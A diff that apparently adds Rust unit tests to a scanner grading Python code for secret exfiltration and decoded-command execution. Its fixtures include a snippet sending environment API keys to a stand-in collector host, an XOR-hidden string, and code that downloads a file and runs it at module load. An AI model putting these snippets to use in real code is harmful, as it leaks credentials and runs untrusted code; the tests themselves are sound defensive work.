@@ -2554,3 +2554,76 @@ fn a_count_of_decoded_entries_and_the_environment_are_not_the_command() {
         assert!(severity_of("launcher/launch.py", &decoded, "process-decoded").is_some(), "{decoded}");
     }
 }
+
+/// A comprehension's loop variable is its own (Python 3): a module that
+/// splits its API keys with `[url.strip() for url in KEYS]` has not put the
+/// keys in the module's `url`, which it later fetches a logo from. A `for`
+/// statement does bind the module's name, and the keys sent from inside
+/// the comprehension still go out. Both front-ends. Written for the test.
+#[test]
+fn a_comprehensions_loop_variable_is_its_own() {
+    let head = "import os, requests\nKEYS = os.environ.get('SERVICE_API_KEYS', '').split(';')\n";
+    let fetch = "url = 'https://cdn.example.net/logo.png'\nr = requests.get(url, stream=True)\n";
+    let comprehension = format!("{head}KEYS = [url.strip() for url in KEYS]\n{fetch}");
+    let loop_ = format!("{head}for url in KEYS:\n    pass\n{fetch}");
+    let sent =
+        format!("{head}r = [requests.get('https://collect.example.net/k', params={{'k': url}}) for url in KEYS]\n");
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{comprehension}{tail}");
+        assert_eq!(severity_of("svc/config.py", &src, "exfiltration"), None, "{src}");
+        let src = format!("{loop_}{tail}");
+        assert!(severity_of("svc/config.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
+        let src = format!("{sent}{tail}");
+        assert!(severity_of("svc/config.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
+    }
+}
+
+/// `chr(10).join(lines)` joins lines inside an f-string (which could not
+/// hold a backslash before Python 3.12): a line break written as its
+/// number decodes nothing, so a command-line tool whose help text is built
+/// so does not run a "decoded" command when it starts the program it was
+/// given. Characters computed from numbers still decode. Both front-ends.
+/// Written for the test.
+#[test]
+fn a_line_break_written_as_its_number_is_not_decoding() {
+    let cli = "import argparse, os, shutil, sys\ndef parse():\n    \
+               lines = ['  APP_NAME  the name', '  APP_ENV  the stage']\n    \
+               p = argparse.ArgumentParser(epilog=f'Variables:\\n{chr(10).join(lines)}')\n    \
+               p.add_argument('command', nargs=argparse.REMAINDER)\n    \
+               a = p.parse_args()\n    return a, a.command\n\
+               def main():\n    args, command = parse()\n    exe = shutil.which(command[0])\n    \
+               os.execl(exe, exe, *command[1:])\n";
+    let computed = cli.replace("chr(10).join(lines)", "''.join(chr(c ^ 7) for c in [99, 98])");
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{cli}{tail}");
+        assert_eq!(severity_of("tool/cli.py", &src, "process-decoded"), None, "{src}");
+        let src = format!("{computed}{tail}");
+        assert!(severity_of("tool/cli.py", &src, "process-decoded").is_some(), "{src}");
+    }
+}
+
+/// A tool that asks its release index for a download address and hands it
+/// to `curl` when its user calls it fetches its parts: a named program
+/// given downloaded data, medium. Starting the downloaded file itself, or
+/// opening it with the system's launcher, runs what was downloaded (high),
+/// and the same as the module loads is nobody's request (critical). Both
+/// front-ends. Written for the test.
+#[test]
+fn a_named_program_given_downloaded_data_on_request_is_for_a_reviewer() {
+    let tool = "import requests, subprocess\ndef fetch_tool(dest):\n    \
+                info = requests.get('https://releases.example.org/tool/latest.json').json()\n    \
+                url = info['assets'][0]['url']\n    \
+                subprocess.run(['curl', '-L', url, '-o', dest], check=True)\n";
+    let started = tool.replace("['curl', '-L', url, '-o', dest]", "[url]");
+    let opened = tool.replace("['curl', '-L', url, '-o', dest]", "['open', url]");
+    let loading = format!("{tool}fetch_tool('/tmp/tool')\n");
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{tool}{tail}");
+        assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::Medium), "{src}");
+        for src in [format!("{started}{tail}"), format!("{opened}{tail}")] {
+            assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::High), "{src}");
+        }
+        let src = format!("{loading}{tail}");
+        assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::Critical), "{src}");
+    }
+}
